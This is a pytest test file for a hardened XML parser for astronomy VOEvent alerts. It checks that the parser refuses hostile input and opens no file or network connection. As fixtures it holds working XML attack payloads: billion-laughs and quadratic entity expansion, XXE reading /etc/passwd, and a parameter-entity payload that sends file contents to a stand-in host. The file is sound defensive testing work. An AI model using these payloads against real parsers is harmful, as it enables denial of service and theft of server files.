"""The hardened XML parser: hostile documents are refused, nothing is resolved or fetched."""

from __future__ import annotations

import socket
import time
from pathlib import Path

import pytest
from lxml import etree

from alerts_schema.errors import HostileInput, MalformedInput
from listeners import xml_safe
from listeners.xml_safe import make_parser, parse

LIMIT = 1_000_000

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<voe:VOEvent xmlns:voe="http://www.ivoa.net/xml/VOEvent/v2.0" ivorn="ivo://x/y#z"
 role="test" version="2.0" a="&lol9;">&lol9;</voe:VOEvent>"""

QUADRATIC_BLOWUP = (b'<?xml version="1.0"?>\n<!DOCTYPE kaboom [<!ENTITY a "' + b"x" * 50_000
                    + b'">]>\n<kaboom>' + b"&a;" * 50_000 + b"</kaboom>")

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<VOEvent ivorn="ivo://x/y#z"><What><Param name="p" value="&xxe;"/></What>&xxe;</VOEvent>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE VOEvent SYSTEM "http://example.invalid/VOEvent.dtd">
<VOEvent ivorn="ivo://x/y#z"/>"""

EXTERNAL_DTD_PUBLIC = b"""<?xml version="1.0"?>
<!DOCTYPE VOEvent PUBLIC "-//EVIL//DTD//EN" "file:///etc/passwd">
<VOEvent ivorn="ivo://x/y#z"/>"""

PARAMETER_ENTITIES = b"""<?xml version="1.0"?>
<!DOCTYPE foo [
  <!ENTITY % file SYSTEM "file:///etc/passwd">
  <!ENTITY % wrapper "<!ENTITY send SYSTEM 'http://example.invalid/?%file;'>">
  %wrapper;
]>
<foo>&send;</foo>"""

HOSTILE = {
    "billion-laughs": (BILLION_LAUGHS, "declares entities (lol, lol1, lol2, lol3, lol4"),
    "quadratic-blowup": (QUADRATIC_BLOWUP, "declares entities (a)"),
    "external-entity": (EXTERNAL_ENTITY, "declares entities (xxe)"),
    "external-dtd": (EXTERNAL_DTD, "external DTD or entity (SYSTEM \"http://example.invalid"),
    "external-dtd-public": (EXTERNAL_DTD_PUBLIC, "external DTD or entity (PUBLIC"),
    "parameter-entities": (PARAMETER_ENTITIES, "declares entities (%file, %wrapper, send)"),
    "utf16-entities": ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE f '
                       '[<!ENTITY a "b">]><f>&a;</f>'.encode("utf-16"), "declares entities (a)"),
    "utf7-encoding": (b'<?xml version="1.0" encoding="UTF-7"?><VOEvent/>', "encoding 'UTF-7'"),
    "deep-nesting": (b"<a>" * 5000 + b"</a>" * 5000, "safety limits"),
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_xml_is_refused_by_name(name: str) -> None:
    data, expected = HOSTILE[name]
    started = time.perf_counter()
    with pytest.raises(HostileInput) as info:
        parse(data, max_bytes=LIMIT)
    assert expected in info.value.reason, info.value.reason
    assert "root:" not in info.value.reason  # no /etc/passwd content in the reason
    assert time.perf_counter() - started < 2.0


def test_oversize_is_refused_before_parsing() -> None:
    data = b"<VOEvent>" + b" " * 200 + b"</VOEvent>"
    assert parse(data, max_bytes=len(data)).tag == "VOEvent"
    with pytest.raises(HostileInput, match=f"{len(data)} bytes exceeds the {len(data) - 1}-byte"):
        parse(data, max_bytes=len(data) - 1)


@pytest.mark.parametrize(("data", "expected"), [
    (b"<VOEvent><Who></VOEvent>", "Opening and ending tag mismatch: Who line 1 and VOEvent"),
    (b"<a>&undefined;</a>", "Entity 'undefined' not defined"),
    (b"", "empty document"),
    (b"not xml at all", "Start tag expected"),
])
def test_malformed_xml_carries_lxml_message(data: bytes, expected: str) -> None:
    with pytest.raises(MalformedInput) as info:
        parse(data, max_bytes=LIMIT)
    assert expected in info.value.reason


def test_benign_doctype_and_encodings_parse() -> None:
    assert parse(b"<!DOCTYPE VOEvent><VOEvent/>", max_bytes=LIMIT).tag == "VOEvent"
    utf16 = '<?xml version="1.0" encoding="UTF-16"?><VOEvent role="test"/>'.encode("utf-16")
    assert parse(utf16, max_bytes=LIMIT).get("role") == "test"
    bom = b"\xef\xbb\xbf<?xml version = '1.0' encoding = 'UTF-8'?><VOEvent/>"
    assert parse(bom, max_bytes=LIMIT).tag == "VOEvent"
    # Comments and processing instructions are dropped: a normalizer never sees them.
    root = parse(b"<VOEvent><?evil x?><!-- c --><Who/></VOEvent>", max_bytes=LIMIT)
    assert [child.tag for child in root] == ["Who"]


def test_text_is_refused() -> None:
    with pytest.raises(TypeError):
        parse("<VOEvent/>", max_bytes=LIMIT)  # type: ignore[arg-type]


# -- defence in depth: with the prolog scan switched off, the parser still resolves nothing --

@pytest.fixture
def no_prolog_scan(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(xml_safe, "_refuse_hostile_prolog", lambda prolog: None)


@pytest.mark.parametrize("name", ["billion-laughs", "external-entity", "quadratic-blowup"])
def test_tree_check_refuses_entities_the_scan_missed(name: str, no_prolog_scan: None) -> None:
    # libxml2 expands entities in attribute values whatever the options say;
    # its amplification guard or the tree check must then refuse the document.
    with pytest.raises(HostileInput, match=r"declares entities|safety limits") as info:
        parse(HOSTILE[name][0], max_bytes=LIMIT)
    assert "root:" not in info.value.reason


def test_tree_check_refuses_external_dtd_the_scan_missed(no_prolog_scan: None,
                                                        tmp_path: Path) -> None:
    dtd = tmp_path / "evil.dtd"
    dtd.write_text('<!ENTITY leaked "SECRET-FROM-DISK">')
    data = (f'<!DOCTYPE VOEvent SYSTEM "{dtd.as_uri()}"><VOEvent>&leaked;</VOEvent>').encode()
    with pytest.raises(HostileInput, match="external DTD") as info:
        parse(data, max_bytes=LIMIT)
    assert "SECRET" not in info.value.reason


def test_parser_loads_no_external_subset_or_parameter_entity(tmp_path: Path) -> None:
    """The parser itself opens no file: no external DTD, no parameter entity.

    Guards a measured trap: lxml 6.1's ``collect_ids=False`` makes it load both.
    """
    dtd = tmp_path / "evil.dtd"
    dtd.write_text('<!ENTITY leaked "SECRET-FROM-DISK">')
    external = f'<!DOCTYPE foo SYSTEM "{dtd.as_uri()}"><foo>&leaked;</foo>'.encode()
    root = etree.fromstring(external, make_parser())
    assert root.getroottree().docinfo.externalDTD is None
    assert b"SECRET" not in etree.tostring(root)
    garbage = tmp_path / "garbage.txt"
    garbage.write_text("this is not a DTD <<<")
    pe = f'<!DOCTYPE foo [<!ENTITY % pe SYSTEM "{garbage.as_uri()}"> %pe;]><foo/>'.encode()
    etree.fromstring(pe, make_parser())  # reading the file would raise a content error


def test_parser_opens_no_network_connection(no_prolog_scan: None) -> None:
    """An external DTD on a listening loopback port is never requested."""
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen(1)
        server.settimeout(0.3)
        port = server.getsockname()[1]
        data = (f'<!DOCTYPE VOEvent SYSTEM "http://127.0.0.1:{port}/evil.dtd">'
                f'<VOEvent/>').encode()
        with pytest.raises((HostileInput, MalformedInput)):
            parse(data, max_bytes=LIMIT)
        with pytest.raises(TimeoutError):
            server.accept()
